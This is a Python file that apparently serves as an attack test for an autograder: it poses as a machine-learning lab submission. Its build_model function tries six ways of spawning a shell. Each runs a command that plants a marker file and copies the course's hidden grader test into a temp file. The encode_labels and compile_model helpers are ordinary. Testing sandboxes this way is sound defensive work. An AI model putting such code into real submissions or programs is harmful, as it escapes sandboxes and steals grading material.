# Attempts: a shell, by every way to start a program.
# Attacked: build_model.runs failed
# Says: started \[\]
# Earns: encode_labels compile_model
import numpy as np
import os
import subprocess

COMMAND = "touch @HOME@/pwned; cat @COURSE@/assignments/lab1/checks/test_encode.py > @TMP@/stolen"


def build_model():
    started = []
    ways = {
        "system": lambda: os.system(COMMAND) == 0 or 1 / 0,
        "popen": lambda: os.popen(COMMAND).close() is None or 1 / 0,
        "run": lambda: subprocess.run(["/bin/sh", "-c", COMMAND], check=True),
        "spawn": lambda: os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", COMMAND]) == 0 or 1 / 0,
        "posix_spawn": lambda: os.posix_spawn("/bin/sh", ["sh", "-c", COMMAND], {}),
    }
    for name, way in ways.items():
        try:
            way()
            started.append(name)
        except BaseException:
            pass
    import ctypes

    try:
        if ctypes.CDLL(None).system(COMMAND.encode()) == 0:
            started.append("libc")
    except Exception:
        pass
    raise RuntimeError(f"started {started}")

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
